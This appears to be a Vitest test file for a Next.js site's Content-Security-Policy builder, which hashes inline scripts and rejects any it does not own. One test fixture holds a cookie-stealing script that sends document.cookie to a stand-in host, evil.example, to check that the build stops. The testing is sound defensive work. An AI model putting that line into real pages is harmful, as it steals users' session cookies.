import { describe, expect, it } from 'vitest';
import {
  inlineScripts,
  pagePolicy,
  policyProblems,
  readPagePolicy,
  scriptHash,
  scriptOwner,
  withPagePolicy,
} from './csp';

const page = (head: string, body = '') =>
  `<!DOCTYPE html><html lang="en"><head><meta charSet="utf-8"/><script src="/_next/static/chunks/a.js" async=""></script>${head}</head><body>${body}</body></html>`;

const nextBootstrap = '<script id="_R_">(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push([1])</script>';
const payload = '<script>self.__next_f.push([1,"1:I[1,[],\\"\\"]\\n"])</script>';
const siteScript = '<script data-kw-script="colour-mode">document.documentElement.classList.add("x")</script>';

describe('inline scripts and their owners', () => {
  it('lists inline JavaScript only: not src scripts or JSON data blocks', () => {
    const html = page(`${siteScript}<script type="application/ld+json">{"a":1}</script>`, payload);
    expect(inlineScripts(html).map((script) => script.body)).toEqual([
      'document.documentElement.classList.add("x")',
      'self.__next_f.push([1,"1:I[1,[],\\"\\"]\\n"])',
    ]);
  });

  it("knows Next.js's bootstrap and payload, and the site's marked scripts", () => {
    const [bootstrap, push, own, stranger] = inlineScripts(
      page(nextBootstrap + payload + siteScript + '<script>alert(1)</script>'),
    );
    expect([bootstrap, push, own, stranger].map((script) => script && scriptOwner(script))).toEqual([
      'next',
      'next',
      'site',
      undefined,
    ]);
  });

  it('hashes as browsers do (SHA-256 of the text, base64)', () => {
    expect(scriptHash('alert(1)')).toBe("'sha256-bhHHL3z2vDgxUt0W3dWQOrprscmda2Y5pLsLg4GF+pI='");
  });
});

describe('withPagePolicy', () => {
  it('puts the policy before the first script, after the charset, with the hash of every inline script', () => {
    const html = withPagePolicy(page(siteScript, nextBootstrap + payload), 'index.html', ['https://api.kilowise.io']);
    const policy = readPagePolicy(html);
    expect(html.indexOf('Content-Security-Policy')).toBeLessThan(html.indexOf('<script'));
    expect(html.indexOf('<meta charSet')).toBeLessThan(html.indexOf('Content-Security-Policy'));
    expect(policy).toContain("default-src 'self'");
    expect(policy).toContain("connect-src 'self' https://api.kilowise.io");
    expect(policy?.match(/script-src [^;]*/)?.[0]).not.toMatch(/unsafe-inline|unsafe-eval/);
    expect(
      policy
        ?.match(/script-src [^;]*/)?.[0]
        .split(' ')
        .filter((source) => source.startsWith("'sha256-")),
    ).toHaveLength(3);
    expect(policyProblems(html, 'index.html')).toEqual([]);
  });

  it('stops on an inline script nobody owns, naming the file and the script', () => {
    expect(() =>
      withPagePolicy(
        page('', '<script>fetch("https://evil.example/"+document.cookie)</script>'),
        '.next/server/app/api.html',
        [],
      ),
    ).toThrow(
      /^\[csp\] \.next\/server\/app\/api\.html: an inline script the site does not own: <script>fetch\("https:\/\/evil\.example/,
    );
  });

  // Next's scripts are recognised by their markers. A Next.js upgrade that changes them must stop the build at this
  // step (the page names the script), never let the script through or loosen the policy to fit it.
  it.each([
    ['the bootstrap under another id', nextBootstrap.replace('id="_R_"', 'id="_N_"')],
    ['the bootstrap with another runtime global', nextBootstrap.replaceAll('TURBOPACK', 'TURBOPACK_NEXT')],
    ['the payload under another name', payload.replace('self.__next_f', 'self.__next_r')],
  ])('fails the build when a Next.js upgrade changes its scripts: %s', (_change, script) => {
    expect(() => withPagePolicy(page(script + payload), 'index.html', [])).toThrow(
      /^\[csp\] index\.html: an inline script the site does not own: <script/,
    );
  });

  it('never allows scripts by anything but their hashes', () => {
    const policy = pagePolicy({ scriptHashes: [scriptHash('a()')], connectSources: [] });
    const scriptSource = policy.split('; ').find((directive) => directive.startsWith('script-src')) ?? '';
    expect(scriptSource).toBe(`script-src 'self' ${scriptHash('a()')}`);
    expect(policy).not.toMatch(/'unsafe-eval'|'strict-dynamic'|script-src[^;]*'unsafe-inline'/);
  });

  it('without a charset first, puts the policy right after <head ...>; a page without a <head> tag stops the build', () => {
    const html = withPagePolicy(
      '<html><head data-x=">"><title>t</title></head><body>' + payload + '</body></html>',
      'b.html',
      [],
    );
    expect(html).toMatch(
      /^<html><head data-x=">"><meta http-equiv="Content-Security-Policy" content="[^"]+"\/><title>/,
    );
    expect(policyProblems(html, 'b.html')).toEqual([]);
    expect(() => withPagePolicy('<title>t</title>' + payload, 'c.html', [])).toThrow('[csp] c.html has no <head>');
  });

  it('reads a script in <head> before the policy as a problem', () => {
    const html = withPagePolicy(page(siteScript), 'a.html', []).replace('<head>', '<head><script>early()</script>');
    expect(policyProblems(html, 'a.html')).toContain('[csp] a.html: a script comes before the policy');
  });

  it('refuses a page that already has a policy', () => {
    const once = withPagePolicy(page(siteScript), 'a.html', []);
    expect(() => withPagePolicy(once, 'a.html', [])).toThrow(
      '[csp] a.html already has a Content-Security-Policy meta tag',
    );
  });
});

describe('policyProblems', () => {
  it('finds a script whose hash is missing, and a page without a policy', () => {
    const html = withPagePolicy(page(siteScript), 'a.html', []).replace(
      '</body>',
      '<script data-kw-script="late">later()</script></body>',
    );
    expect(policyProblems(html, 'a.html')).toEqual([
      '[csp] a.html: the hash of an inline script is missing from the policy: later()…',
    ]);
    expect(policyProblems(page(''), 'b.html')).toEqual(['[csp] b.html has no Content-Security-Policy meta tag']);
  });

  it('allows no inline script at all without a hash', () => {
    expect(pagePolicy({ scriptHashes: [], connectSources: [] })).toContain("script-src 'self';");
  });
});
